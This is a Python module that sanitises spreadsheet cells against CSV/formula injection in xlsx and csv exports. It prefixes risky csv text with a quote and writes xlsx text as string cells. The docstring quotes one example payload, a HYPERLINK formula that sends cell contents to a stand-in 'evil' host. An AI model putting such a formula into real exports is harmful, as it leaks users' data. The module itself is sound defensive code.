"""The one cell-sanitising rule of every export (xlsx and csv).

Spreadsheet programs treat a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula ("CSV/formula injection"): a value entry titled
`=HYPERLINK("http://evil/?"&A1)` could otherwise leak data or run commands when a leader
opens the review. The rule:

- **xlsx**: user text is always written with `write_string`, never `write()`, so it is a
  text cell and can never become a formula; the text itself is kept unchanged.
- **csv**: a CSV file has no cell types, so text that starts with one of those characters
  is prefixed with a single quote `'` (the OWASP recommendation). Excel and LibreOffice
  then show it as text; the quote is visible in a plain text editor.

Numbers (money, counts, ratings) are written as numbers in both formats and are never
prefixed: `-120.50` stays a negative number.
"""

from __future__ import annotations

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Excel's limit for one cell's text.
MAX_CELL_TEXT = 32767


def looks_like_formula(text: str) -> bool:
    """Would a spreadsheet program treat this text as a formula?"""
    return text.startswith(FORMULA_PREFIXES)


def csv_text(value: str) -> str:
    """Text for a CSV cell: a leading `'` when it could be read as a formula."""
    return "'" + value if looks_like_formula(value) else value


def xlsx_text(value: str) -> str:
    """Text for an xlsx string cell (written with write_string, so never a formula).

    Line breaks become `\n`, Excel's own line break in a cell (a bare carriage return
    would be stored as the escape `_x000D_`, which some readers show literally), and text
    past Excel's cell limit is cut.
    """
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value if len(value) <= MAX_CELL_TEXT else value[: MAX_CELL_TEXT - 1] + "…"
